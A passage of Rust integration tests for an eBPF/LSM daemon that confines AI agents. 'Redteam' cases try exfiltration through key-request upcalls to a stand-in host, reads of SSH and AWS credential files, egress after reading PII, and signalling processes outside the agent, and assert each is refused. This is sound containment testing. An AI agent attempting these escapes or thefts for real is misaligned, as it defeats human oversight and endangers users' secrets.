    let c = |s: &str| std::ffi::CString::new(s).unwrap();
    // Every registered one that can be requested is refused in the agent by the key guard (at
    // least one of these is built in). A type the kernel has not registered makes no key and
    // no upcall (ENOKEY: its module, which would register it, is not autoloaded for agents
    // either), nor does one that refuses requests (EINVAL).
    let mut by_key_guard = Vec::new();
    for ty in [
        "dns_resolver",
        "fscrypt-provisioning",
        "blacklist",
        "id_resolver",
        "cifs.spnego",
        "asymmetric",
        "big_key",
    ] {
        let case = format!("46 request_key {ty} (its construction runs outside the agent)");
        let attempt = Attempt::RequestKey {
            ty: c(ty),
            description: c("bin:exfiltrated.example.invalid"),
        };
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &attempt);
        // ENOKEY: the type is not registered; EINVAL: the type refuses to be requested.
        if let Outcome::Errno(e @ (libc::ENOKEY | libc::EINVAL)) = outcome {
            // (Its search of keyrings from outside is refused: keys of others.)
            assert!(
                k.try_event_where(Duration::from_millis(100), |e| e.tgid == pid
                    && e.kind != Kind::Ipc as u8)
                    .is_none(),
                "{case}: no key, no decision"
            );
            println!("key type {ty}: errno {e} before any key is made: no upcall");
            continue;
        }
        // The request's search of keyrings from outside (the test's session keyring) is
        // refused first (keys of others, `key_permission`): the key guard's event is looked for.
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}: in the agent");
        let ev = k.event_where(|e| {
            e.tgid == pid && e.flags & flags::DENIED != 0 && e.kind == Kind::Guard as u8
        });
        assert_eq!(ev.detail, governance_common::guard::KEY_UPCALL, "{case}");
        assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}: event agent");
        let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &attempt);
        assert_ne!(outcome, Outcome::Errno(libc::EPERM), "{case}: control");
        println!("redteam: denied {case}");
        by_key_guard.push(ty);
    }
    assert!(
        !by_key_guard.is_empty(),
        "no registered key type was refused by the key guard"
    );
    println!("key types refused by the key guard: {by_key_guard:?}");
    // Local keys stay the agent's.
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::AddKey {
            ty: c("user"),
            description: c("agent-key"),
        },
    );
    assert_eq!(outcome, Outcome::Exited(0), "add_key(user) in the agent");
}

/// A denial in a container's namespaces ([`Container`]): EPERM and the event in the agent, where
/// the process is pid 1 of its own PID namespace (`ns_pid`) and the node's pid in `tgid`; the
/// control is the same attempt in the same kind of container outside the agent.
fn deny_in_container(
    k: &mut Loaded,
    fx: &Fixture,
    c: &Container,
    case: &str,
    attempt: &Attempt,
    kind: Kind,
) -> Event {
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in_namespaces(Some(&fx.agent.path), "agent", attempt, Some(c));
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}: in the agent");
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(ev.kind), Some(kind), "{case}: event kind");
    assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}: event agent");
    assert_eq!(ev.generation, k.generation, "{case}: event generation");
    assert_ne!(pid, 1, "{case}: the node's pid");
    assert_eq!(ev.ns_pid, 1, "{case}: the pid inside the container");
    println!("redteam: denied {case}");
    let (pid, outcome) = run_in_namespaces(Some(&fx.outsider.path), "outsider", attempt, Some(c));
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    assert!(
        k.try_event_for(pid, Duration::from_millis(100)).is_none(),
        "{case}: no event outside the agent"
    );
    println!("redteam: control {case}");
    ev
}

/// Agents in their own mount, network and PID namespaces (issue 14), made as a container runtime
/// makes them: the namespaces first (as root, outside every agent), then the container's first
/// process joins the agent's cgroup. Its mount namespace has the node's `node/` directory
/// bind-mounted on `ctr/` (which is empty on the node), so the container's view of a path
/// differs from the node's. What docs/kernel.md "Paths in containers" says, checked:
/// - a path rule names the path as the container sees it (`ctr/secret`): denied there by that
///   name; the same file by the node's name (`node/secret`) is another name, allowed;
/// - a rule naming a node path covers the node's object by identity wherever it is reached from:
///   `node/key` opened as `ctr/key` in the container is denied, and an exec rule on `node/tool`
///   denies `ctr/tool`;
/// - connect rules apply in the container's own network namespace (its loopback);
/// - events carry the node's pid and the pid inside the container (1: its first process).
///
/// Each denial has its controls: an allowed file, exec or connect in the same namespaces, and
/// the same attempt in a container outside the agent.
#[test]
fn agents_in_their_own_namespaces() {
    require_root();
    let fx = Fixture::new("ns");
    for sub in ["node", "ctr"] {
        std::fs::create_dir_all(fx.p(sub)).unwrap();
    }
    for f in ["secret", "public", "key"] {
        std::fs::write(fx.p(&format!("node/{f}")), f).unwrap();
    }
    std::fs::copy(BUSYBOX, fx.p("node/tool")).unwrap();
    let d = fx.dir.display();
    let mut k = fx.load(&format!(
        "\x20 - {{ id: ctr-secret, file: {{ path: {d}/ctr/secret }}, verdict: block, reason: the container's name }}\n\
         \x20 - {{ id: node-key, file: {{ path: {d}/node/key }}, verdict: block, reason: the node's file }}\n\
         \x20 - {{ id: node-tool, exec: {{ path: {d}/node/tool }}, verdict: block, reason: the node's binary }}\n\
         \x20 - {{ id: ctr-net, network: {{ cidr: 127.0.0.9/32 }}, verdict: block, reason: a loopback address }}\n"
    ));
    let port = 4242;
    let allowed_addr = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
    let blocked_addr = SocketAddr::from((Ipv4Addr::new(127, 0, 0, 9), port));
    let c = Container::new(&fx.p("node"), &fx.p("ctr"), &[allowed_addr, blocked_addr]);
    let rd = libc::O_RDONLY;
    let in_container = |k: &mut Loaded, attempt: &Attempt| {
        let (pid, outcome) = run_in_namespaces(Some(&fx.agent.path), "agent", attempt, Some(&c));
        (
            pid,
            outcome,
            k.try_event_for(pid, Duration::from_millis(200)),
        )
    };

    // A path rule names the container's path.
    let ev = deny_in_container(
        &mut k,
        &fx,
        &c,
        "14.7 open by the container's path",
        &Attempt::open(&fx.p("ctr/secret"), rd),
        Kind::File,
    );
    assert_eq!(ev.rule_id, k.rule(14));
    assert_eq!(text(&ev.path), fx.p("ctr/secret").to_str().unwrap());
    // Controls: another file of the same view; the same file by the node's name, in the
    // container and on the node (a path rule decides on the name).
    for path in [fx.p("ctr/public"), fx.p("node/secret")] {
        let (_, outcome, _) = in_container(&mut k, &Attempt::open(&path, rd));
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "{} in the container",
            path.display()
        );
    }
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&fx.p("node/secret"), rd),
    );
    assert_eq!(outcome, Outcome::Exited(0), "the node's name on the node");

    // A rule on a node path covers the node's object under the container's name.
    let ev = deny_in_container(
        &mut k,
        &fx,
        &c,
        "14.7 open of a node file by identity, under the container's name",
        &Attempt::open(&fx.p("ctr/key"), rd),
        Kind::File,
    );
    assert_eq!(ev.rule_id, k.rule(15));
    assert_eq!(
        text(&ev.path),
        fx.p("ctr/key").to_str().unwrap(),
        "the container's view"
    );

    // An exec rule by identity: the node's binary under the container's name.
    let ev = deny_in_container(
        &mut k,
        &fx,
        &c,
        "14.7 exec of a node binary by identity, under the container's name",
        &Attempt::exec(&fx.p("ctr/tool"), "true"),
        Kind::Exec,
    );
    assert_eq!(ev.rule_id, k.rule(16));
    assert_eq!(text(&ev.path), fx.p("ctr/tool").to_str().unwrap());
    // Control: an allowed tool in the same namespaces, reported with both pids.
    let (pid, outcome, ev) = in_container(&mut k, &Attempt::exec(&fx.p("allowed/true"), "true"));
    assert_eq!(outcome, Outcome::Exited(0), "allowed exec in the container");
    let ev = ev.expect("the allowed exec is reported");
    assert_eq!((ev.flags & flags::DENIED, ev.rule_id), (0, k.rule(1)));
    assert_eq!((ev.tgid, ev.ns_pid), (pid, 1), "node pid and container pid");

    // A connect rule in the container's own network namespace (its own loopback).
    let ev = deny_in_container(
        &mut k,
        &fx,
        &c,
        "14.7 connect in the container's network namespace",
        &Attempt::connect(blocked_addr),
        Kind::Connect,
    );
    assert_eq!(ev.rule_id, k.rule(17));
    let (_, outcome, _) = in_container(&mut k, &Attempt::connect(allowed_addr));
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "allowed connect in the container"
    );

    // In the node's PID namespace there is no pid inside a container to report.
    let (pid, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&fx.p("secrets/key"), rd),
    );
    assert_eq!(outcome, Outcome::Errno(libc::EPERM));
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(ev.ns_pid, 0, "no ns_pid in the node's namespace");
}

/// A rolling upgrade with the LSM hooks (issue 14): an older build enforcing, a newer build
/// starting over its pins (another build id: `GOVERNANCE_TEST_BUILD_SALT`, as
/// `host_kernel::a_new_build_takes_over_with_no_gap` does for the cgroup hooks), while an agent
/// process tries a blocked exec and a blocked file open in turn, throughout the handover. None
/// is ever allowed; attempts are made while the old daemon is stopped and the new one loads,
/// attaches beside the old programs and removes them. Controls outside the agent before and
/// after.
#[test]
fn a_new_build_takes_over_the_lsm_hooks_with_no_gap() {
    require_root();
    let fx = Fixture::new("upgrade");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("p.yaml"),
        fx.policy(
            "  - { id: python, exec: { path: /usr/bin/python3 }, verdict: allow, reason: arms a terminal }\n",
        ),
    )
    .unwrap();
    let pins = pin_dir("upgrade");
    let pins_arg = pins.to_str().unwrap().to_owned();
    let args = ["--no-create-cgroups", "--quiet", "--pins", &pins_arg];
    let exec = Attempt::exec(&fx.p("blocked/true"), "true");
    let open = Attempt::open(&fx.p("secrets/key"), libc::O_RDONLY);
    let controls = |when: &str| {
        for attempt in [&exec, &open] {
            let (_, outcome) = run_in(Some(&fx.outsider.path), "control", attempt);
            assert_eq!(outcome, Outcome::Exited(0), "control {when}");
        }
    };
    let case = "14.8 denied exec and open across a rolling upgrade (LSM)";
    let (old, _) = start_daemon_of_build(&args, &dir, "old build");
    controls("before");
    // Runtime state the new build must carry over (its maps start empty): a file the agent
    // wrote under the old build stays a file it may not map executable under the allowlist.
    // Both files are root's and writable by no one else, and are mapped by a process that
    // cannot write root's files (uid 65534), so that only the table of written files tells them
    // apart (a root process may map neither: it could have changed both).
    let (written, unwritten) = (fx.p("tmp/written"), fx.p("tmp/unwritten"));
    for f in [&written, &unwritten] {
        std::fs::copy(BUSYBOX, f).unwrap();
        std::fs::set_permissions(f, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    let map_exec = |path: &Path| Attempt::MapExecAs {
        path: cstr(path),
        mprotect: false,
        uid: 65534,
    };
    let in_agent = |attempt: &Attempt| run_in(Some(&fx.agent.path), "agent", attempt).1;
    assert_eq!(
        in_agent(&Attempt::open(&written, libc::O_WRONLY)),
        Outcome::Exited(0)
    );
    assert_eq!(
        in_agent(&map_exec(&written)),
        Outcome::Errno(libc::EPERM),
        "a file the agent wrote, under the old build"
    );
    // And a terminal the agent armed for SIGIO (SIGKILL, `F_SETSIG`) whose foreground group is
    // outside it, held open across the upgrade; one armed from outside the agent, the control.
    let armed = |cgroup: &Path, what: &str| {
        let (master, slave) = pty();
        let victim = tty_foreground(&slave);
        governance_tests::wait_until("the victim to sleep", Duration::from_secs(20), || {
            proc_state(victim.id()) == 'S'
        });
        // The terminal handed to the process (inherited), as in
        // `sigio_of_files_agents_armed_reaches_no_process_outside`.
        let tty = open_tty(&slave);
        let mut cmd = governance_tests::command_in(
            Some(cgroup),
            "/usr/bin/python3",
            &["-c", ARM_SIGIO, &tty.to_string(), "9"],
        );
        let holder = governance_tests::spawn_ready(&mut cmd, what);
        unsafe { libc::close(tty) };
        (master, slave, victim, holder)
    };
    let sigio = armed(&fx.agent.path, "the agent's armed terminal");
    let sigio_control = armed(&fx.outsider.path, "the outsider's armed terminal");
    println!("redteam: tried {case}");
    let looper = AttemptLoop::start(
        &fx.agent.path,
        "upgrade",
        vec![
            Attempt::exec(&fx.p("blocked/true"), "true"),
            Attempt::open(&fx.p("secrets/key"), libc::O_RDONLY),
        ],
    );
    looper.wait_for(
        "attempts under the old build",
        0,
        10,
        Duration::from_secs(30),
    );
    // The old daemon stops (its programs stay pinned, enforcing), the new one hands over.
    stop_daemon(old);
    let at_stop = looper.tried();
    let (new, seen) = start_daemon_of_build(&args, &dir, "new build");
    assert!(
        seen.contains("another build's") && seen.contains("handed over"),
        "the new build handed over:\n{seen}"
    );
    let at_handover = looper.tried();
    looper.wait_for(
        "attempts under the new build alone",
        at_handover,
        10,
        Duration::from_secs(30),
    );
    let counts = looper.stop();
    println!(
        "upgrade: {} exec and {} open attempts in all, {} during the handover, allowed: {} exec, {} open",
        counts[0].0,
        counts[1].0,
        at_handover - at_stop,
        counts[0].1,
        counts[1].1
    );
    assert!(
        at_handover > at_stop,
        "attempts were made during the handover"
    );
    assert!(counts.iter().all(|&(tried, _)| tried > 0), "{counts:?}");
    assert_eq!(
        (counts[0].1, counts[1].1),
        (0, 0),
        "no exec and no open got through during the handover"
    );
    println!("redteam: denied {case}");
    controls("after");
    println!("redteam: control {case}");
    let carried = "14.8 a file the agent wrote, mapped executable after a rolling upgrade (LSM)";
    println!("redteam: tried {carried}");
    assert!(seen.contains("carried over:"), "{seen}");
    assert_eq!(
        in_agent(&map_exec(&written)),
        Outcome::Errno(libc::EPERM),
        "the file the agent wrote under the old build, under the new build alone"
    );
    println!("redteam: denied {carried}");
    assert_eq!(
        in_agent(&map_exec(&unwritten)),
        Outcome::Exited(0),
        "control: a file no agent wrote"
    );
    println!("redteam: control {carried}");
    let carried = "R5 SIGKILL through a terminal the agent armed before a rolling upgrade";
    println!("redteam: tried {carried}");
    let (master, slave, mut victim, holder) = sigio;
    raise_tty_input(master, &slave);
    assert!(
        seen.contains("1 files agents armed for SIGIO"),
        "{carried}: the new build carried the armed file:\n{seen}"
    );
    // Refused in `file_send_sigiotask`, inside the flush: the victim was never signalled.
    assert!(
        victim.try_wait().unwrap().is_none() && proc_state(victim.id()) == 'S',
        "{carried}: the victim outside the agent lives (state {})",
        proc_state(victim.id())
    );
    println!("redteam: denied {carried}");
    let (m, s, mut own, control_holder) = sigio_control;
    raise_tty_input(m, &s);
    assert!(
        killed_or_stopped(&mut own),
        "{carried}: the outsider's terminal kills its own foreground group"
    );
    println!("redteam: control {carried}");
    drop((holder, control_holder));
    for mut child in [victim, own] {
        let _ = child.kill();
        let _ = child.wait();
    }
    unsafe {
        libc::close(master);
        libc::close(m);
    }
    // The new build reports a container's process end to end: its audit record of a denial
    // by the container's first process carries the node's pid and the pid inside (1).
    let c = Container::new(&fx.p("allowed"), &fx.p("tmp"), &[]);
    let (pid, outcome) = run_in_namespaces(Some(&fx.agent.path), "agent", &exec, Some(&c));
    assert_eq!(
        outcome,
        Outcome::Errno(libc::EPERM),
        "the exec in a container"
    );
    let process = governance_tests::wait_for_value(
        "the container's denial in the audit log",
        Duration::from_secs(60),
        || {
            let files = std::fs::read_dir(new.audit()).ok()?;
            files.flatten().find_map(|f| {
                let text = std::fs::read_to_string(f.path()).ok()?;
                text.lines().find_map(|l| {
                    let v: serde_json::Value = serde_json::from_str(l).ok()?;
                    let p = &v["record"]["process"];
                    (p["pid"] == pid && v["record"]["kind"] == "exec").then(|| p.clone())
                })
            })
        },
    );
    assert_eq!(
        process["ns_pid"], 1,
        "the pid inside the container: {process}"
    );
    stop_daemon(new);
    let out = std::process::Command::new(governance_bin())
        .args(["unload", "--pins", &pins_arg])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Issue 17, the in-kernel reporting policy, for file opens: a default-allowed open and one a
/// rule allows without `report:` are counted in the kernel (the default for files), not
/// reported one by one; the metrics and the audit log's signed count records add up to the
/// opens made, and no decision record names those files. The control, a rule with
/// `report: every`, gives one decision record per open.
#[test]
fn file_opens_are_counted_and_the_count_records_add_up() {
    require_root();
    const N: u64 = 10;
    let fx = Fixture::new("report");
    let (counted, seen, plain) = (fx.p("counted.txt"), fx.p("seen.txt"), fx.p("plain.txt"));
    for f in [&counted, &seen, &plain] {
        std::fs::write(f, "x").unwrap();
    }
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("p.yaml"),
        format!(
            "name: report\nagents: {{ cgroup: {agent} }}\nrules:\n\
             \x20 - {{ id: counted, file: {{ path: {counted} }}, verdict: allow, reason: routine }}\n\
             \x20 - {{ id: seen, file: {{ path: {seen} }}, verdict: allow, reason: worth a record, report: every }}\n",
            agent = fx.agent.rel.display(),
            counted = counted.display(),
            seen = seen.display(),
        ),
    )
    .unwrap();
    let health = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap();
    let pins = shared_pins();
    let state = fx.p("state");
    let (mut daemon, _) = start_daemon_in(
        &[
            "--no-create-cgroups",
            "--no-proxy",
            "--pins",
            pins.to_str().unwrap(),
            "--health-listen",
            &health.to_string(),
            "--audit-signing-key",
            fx.p("audit.key").to_str().unwrap(),
        ],
        &dir,
        state.clone(),
    );
    for i in 0..N {
        for f in [&counted, &seen, &plain] {
            let (_, outcome) = run_in(
                Some(&fx.agent.path),
                "agent",
                &Attempt::open(f, libc::O_RDONLY),
            );
            assert_eq!(outcome, Outcome::Exited(0), "open {i} of {}", f.display());
        }
    }
    let agent = fx.agent.rel.display().to_string();
    let series = |rule: &str| {
        format!(
            "governance_allowed_counted_total{{agent=\"{agent}\",rule=\"{rule}\",kind=\"file\"}}"
        )
    };
    // Read from the kernel once a second (generous: the VM is emulated).
    let in_time = governance_tests::poll_until(Duration::from_secs(30), || {
        let page = governance_tests::scrape_metrics(health);
        governance_tests::metric_value(&page, &series("report/counted")) == Some(N)
            && governance_tests::metric_value(&page, &series("default")) == Some(N)
    });
    let page = governance_tests::scrape_metrics(health);
    assert!(
        in_time,
        "{N} counted opens, by rule and by default, within 30 s:\n{page}"
    );
    assert!(!page.contains("rule=\"report/seen\""), "{page}");
    // Stopped here (its state is the fixture's): the last count records go out on the way.
    governance_tests::signal(&daemon, nix::sys::signal::SIGTERM);
    assert!(daemon.child.wait().unwrap().success());
    let verify = std::process::Command::new(governance_bin())
        .args(["audit", "verify"])
        .arg(state.join("audit"))
        .output()
        .unwrap();
    assert!(
        verify.status.success(),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
    let records = governance_tests::audit_records(&state.join("audit"));
    let counted_sum = |rule: &str| -> u64 {
        records
            .iter()
            .filter(|r| {
                r["kind"] == "decisions.counted"
                    && r["rule"] == rule
                    && r["agent"]["name"] == agent.as_str()
            })
            .map(|r| r["counts"]["file"].as_u64().unwrap_or(0))
            .sum()
    };
    assert_eq!(
        counted_sum("report/counted"),
        N,
        "count records of the rule"
    );
    assert_eq!(counted_sum("default"), N, "count records of the default");
    let events = |f: &Path| {
        records
            .iter()
            .filter(|r| r["type"] == "decision" && r["object"]["path"] == f.to_str().unwrap())
            .count() as u64
    };
    assert_eq!(events(&counted), 0, "no event per counted open");
    assert_eq!(events(&plain), 0, "no event per default-allowed open");
    assert_eq!(events(&seen), N, "one event per open under report: every");
}

/// A drill against the shipped example policies (policies/examples), from the daemon's canary:
/// the exec and file checks are enforced by the LSM hooks (refused, passed), as are the network
/// ones, the Unix default by the unix_stream_connect hook, and the HTTP ones by the proxy (the
/// canary's requests sent to it), and the sequence rule by the connect hook once the canary
/// has opened a file under its prefix; nothing is skipped; nothing fails; nothing is left
/// behind.
/// The file rules' objects are made first (the rules name files under /home/agent), so that
/// they can be probed.
#[test]
fn a_drill_of_the_shipped_example_policies_passes() {
    require_root();
    let dir = PathBuf::from(format!(
        "/tmp/governance-drill-examples-{}",
        std::process::id()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    for (name, text) in [
        (
            "coding-agent.yaml",
            include_str!("../../policies/examples/coding-agent.yaml"),
        ),
        (
            "devops-agent.yaml",
            include_str!("../../policies/examples/devops-agent.yaml"),
        ),
        (
            "refund-agent.yaml",
            include_str!("../../policies/examples/refund-agent.yaml"),
        ),
        (
            "research-agent.yaml",
            include_str!("../../policies/examples/research-agent.yaml"),
        ),
        (
            "support-db.yaml",
            include_str!("../../policies/examples/support-db.yaml"),
        ),
    ] {
        std::fs::write(dir.join(name), text).unwrap();
    }
    let home = Path::new("/home/agent");
    let made_home = !home.exists();
    for d in [".ssh", ".aws", ".config/gcloud"] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    std::fs::write(home.join(".ssh/id_ed25519"), "not a key").unwrap();
    std::fs::write(home.join(".aws/credentials"), "not a credential").unwrap();
    // What coding-agent/build-cache refuses: a compiler cache's socket, listening before the
    // load (unix rules are resolved to the socket's identity).
    let sccache = Path::new("/run/sccache");
    let made_sccache = !sccache.exists();
    std::fs::create_dir_all(sccache).unwrap();
    let _ = std::fs::remove_file(sccache.join("sccache.sock"));
    let _cache = std::os::unix::net::UnixListener::bind(sccache.join("sccache.sock")).unwrap();
    // What support-db/no-exfil-after-pii is armed by.
    let pii = Path::new("/srv/support/pii");
    let made_pii = !pii.exists();
    std::fs::create_dir_all(pii).unwrap();
    std::fs::write(pii.join("customers.csv"), "not personal data").unwrap();
    let root = governance::agents::cgroup2_mount().unwrap();
    let made_agents = !root.join("agents").exists();
    let pins = shared_pins();
    let pins_arg = pins.to_str().unwrap().to_owned();
    // Every hook is attached here; --allow-degraded because coding-agent/system-read lists
    // `exec` among its file accesses, which the kernel decides by exec rules (NOT ENFORCED).
    let (mut daemon, _) = start_daemon(&["--allow-degraded", "--pins", &pins_arg], &dir);
    let out = daemon.cli(&["drill", "-o", "json"]);
    let v: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out:?}"));
    let lines: Vec<String> = v["drill"]["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            format!(
                "{} {} {} {} passed={} skipped={}",
                c["rule"].as_str().unwrap(),
                c["kind"].as_str().unwrap(),
                c["object"].as_str().unwrap(),
                c["got"].as_str().unwrap(),
                c["passed"],
                c["skipped_why"].as_str().unwrap_or("-"),
            )
        })
        .collect();
    eprintln!("{}", lines.join("\n"));
    assert!(out.status.success(), "{v:#}");
    assert_eq!(v["passed"], true, "{v:#}");
    for want in [
        "coding-agent/ssh-keys file read /home/agent/.ssh refused (",
        "coding-agent/aws-credentials file read /home/agent/.aws/credentials refused (",
        "coding-agent/gcloud-credentials file read /home/agent/.config/gcloud refused (",
        "devops-agent/no-prod-network network tcp 10.20.0.0:9 refused (EPERM) passed=true",
        "coding-agent/build-cache unix /run/sccache/sccache.sock refused (",
    ] {
        assert!(
            lines
                .iter()
                .any(|l| l.starts_with(want) && l.contains("passed=true")),
            "{want}\n{lines:#?}"
        );
    }
    // The default-deny probes: an exec and a read no rule covers.
    let default = |kind: &str| {
        lines
            .iter()
            .find(|l| l.starts_with(&format!("default {kind} ")))
            .unwrap_or_else(|| panic!("a default {kind} check: {lines:#?}"))
            .clone()
    };
    assert!(default("exec").contains("passed=true"), "{lines:#?}");
    assert!(default("file").contains("passed=true"), "{lines:#?}");
    // Unix: the daemon listens on an abstract name no rule covers; the canary's connect is
    // refused by the unix_stream_connect hook.
    assert!(default("unix").contains("passed=true"), "{lines:#?}");
    // HTTP: every block rule's request and the default probes, refused by the proxy (six
    // block rules, support-db's one-statement rule among them, and two defaults).
    let http: Vec<&String> = lines.iter().filter(|l| l.contains(" http ")).collect();
    assert_eq!(http.len(), 8, "{lines:#?}");
    assert!(
        http.iter()
            .all(|l| l.contains(" refused (") && l.contains("passed=true")),
        "{http:#?}"
    );
    // The sequence rule: the connect goes out before the canary opens a file under the
    // classified prefix, and is refused after.
    assert!(
        lines.iter().any(|l| l.starts_with(
            "support-db/no-exfil-after-pii sequence read /srv/support/pii/customers.csv, then tcp \
             192.0.2.1:9 refused (EPERM) passed=true"
        )),
        "{lines:#?}"
    );
    let skipped: Vec<&String> = lines.iter().filter(|l| !l.ends_with("skipped=-")).collect();
    assert_eq!(skipped, Vec::<&String>::new(), "every check ran");
    let canaries: Vec<&str> = std::fs::read_dir(&root)
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with("governance-drill-")
        })
        .map(|_| "canary")
        .collect();
    assert!(canaries.is_empty(), "no canary cgroup is left");
    // The sequence probe armed the rule for the canary only, and that state went with it.
    let armed: aya::maps::HashMap<
        _,
        governance_common::sequence::SeqStateKey,
        governance_common::sequence::SeqArmed,
    > = aya::maps::HashMap::try_from(aya::maps::Map::HashMap(
        aya::maps::MapData::from_pin(pins.join("maps/SEQ_STATE")).unwrap(),
    ))
    .unwrap();
    assert_eq!(armed.keys().count(), 0, "armed state left behind");
    daemon.stop();
    drop(daemon);
    for d in ["agents/coder", "agents/devops"] {
        let _ = std::fs::remove_dir(root.join(d));
    }
    if made_agents {
        let _ = std::fs::remove_dir(root.join("agents"));
    }
    if made_sccache {
        let _ = std::fs::remove_dir_all(sccache);
    } else {
        let _ = std::fs::remove_file(sccache.join("sccache.sock"));
    }
    if made_pii {
        let _ = std::fs::remove_dir_all("/srv/support");
    } else {
        let _ = std::fs::remove_file(pii.join("customers.csv"));
    }
    if made_home {
        let _ = std::fs::remove_dir_all(home);
    } else {
        let _ = std::fs::remove_file(home.join(".ssh/id_ed25519"));
        let _ = std::fs::remove_file(home.join(".aws/credentials"));
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// Sequence rules (docs/policy.md, "Sequence rules"): once an agent has read a file under the
/// classified prefix, its direct connects and datagrams outside the rule's allowlist are
/// refused, whichever of its processes makes them (a new one, one in a descendant cgroup),
/// over IPv4, IPv4-mapped IPv6 and UDP. Controls: before the read, after a read outside the
/// prefix, to the allowlisted destination, a second agent under the same policy that did not
/// read, and a process outside every agent that read the file.
#[test]
fn sequence_rule_refuses_egress_after_a_classified_read() {
    require_root();
    let fx = Fixture::new("seq");
    std::fs::create_dir_all(fx.p("pii")).unwrap();
    std::fs::write(fx.p("pii/customers.csv"), "id,email\n1,a@b.example\n").unwrap();
    let a = TestCgroup::new("seq-agent-a");
    let b = TestCgroup::new("seq-agent-b");
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = outside.local_addr().unwrap().port();
    let allowed = TcpListener::bind("127.0.0.2:0").unwrap();
    let allowed_port = allowed.local_addr().unwrap().port();
    let d = fx.dir.display();
    let glob = format!("governance-test-{}-*-seq-agent-*", std::process::id());
    let mut k = install(&format!(
        "name: seq\n\
         agents: {{ cgroup: '{glob}' }}\n\
         rules:\n\
         \x20 - id: no-exfil-after-pii\n\
         \x20   sequence:\n\
         \x20     after: {{ file: {{ prefix: {d}/pii, access: [read] }} }}\n\
         \x20     then: {{ network: {{ except: {{ cidr: 127.0.0.2/32 }} }} }}\n\
         \x20   verdict: block\n\
         \x20   reason: no exfiltration after reading PII\n"
    ));
    for hook in ["file_open", "connect4", "connect6", "sendmsg4", "sendmsg6"] {
        k.require(hook);
    }
    let rule_id = governance_common::class_id(k.generation, 1);
    let v4 = |a: [u8; 4], p: u16| SocketAddr::V4(SocketAddrV4::new(Ipv4Addr::from(a), p));
    let connect_out = Attempt::connect(v4([127, 0, 0, 1], port));
    let read_pii = Attempt::open(&fx.p("pii/customers.csv"), libc::O_RDONLY);
    let read_public = Attempt::open(&fx.p("public.txt"), libc::O_RDONLY);
    let ok = |cgroup: &Path, case: &str, attempt: &Attempt| {
        let (_, outcome) = run_in(Some(cgroup), "agent", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}");
    };
    // Not armed: before any read, and after a read outside the prefix.
    ok(&a.path, "connect before the read", &connect_out);
    ok(&a.path, "read outside the prefix", &read_public);
    ok(
        &a.path,
        "connect after a read outside the prefix",
        &connect_out,
    );
    assert!(k.enforcer.armed().unwrap().is_empty(), "nothing armed yet");
    // The read that arms the rule: allowed, reported once, naming the rule.
    let (reader, outcome) = run_in(Some(&a.path), "reader", &read_pii);
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "the classified read itself is allowed"
    );
    let ev = k.event_where(|e| e.tgid == reader && e.flags & flags::ARMED != 0);
    assert_eq!(
        ev.rule_id, rule_id,
        "the arming event names the sequence rule"
    );
    assert_eq!(
        Cause::from_u8(ev.cause),
        Some(Cause::Rule),
        "named as a rule"
    );
    assert_eq!(
        text(&ev.path),
        fx.p("pii/customers.csv").display().to_string()
    );
    assert_eq!(ev.flags & flags::DENIED, 0);
    let armed = k.enforcer.armed().unwrap();
    assert_eq!(armed.len(), 1, "{armed:?}");
    assert_eq!(armed[0].0.agent_cgroup, a.id());
    assert_eq!(
        armed[0].0.state,
        governance::kernel::bucket_id("seq/no-exfil-after-pii")
    );
    assert_eq!(
        armed[0].1.tgid, reader,
        "the arming names the process that read"
    );
    // A second read does not re-arm (the first arming counts).
    ok(&a.path, "a second classified read", &read_pii);
    assert_eq!(k.enforcer.armed().unwrap()[0].1.tgid, reader);
    // Armed: a new process of the agent, over every route out.
    let denied = |k: &mut Loaded,
                  cgroup: &Path,
                  control: Option<&Path>,
                  case: &str,
                  attempt: &Attempt,
                  kind: Kind| {
        println!("redteam: tried {case}");
        let (pid, outcome) = run_in(Some(cgroup), "agent", attempt);
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
        let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
        assert_eq!(Kind::from_u8(ev.kind), Some(kind), "{case}: kind");
        assert_eq!(ev.rule_id, rule_id, "{case}: the sequence rule decided");
        assert_ne!(
            ev.flags & flags::SEQUENCE,
            0,
            "{case}: flagged as a sequence decision"
        );
        assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Block), "{case}");
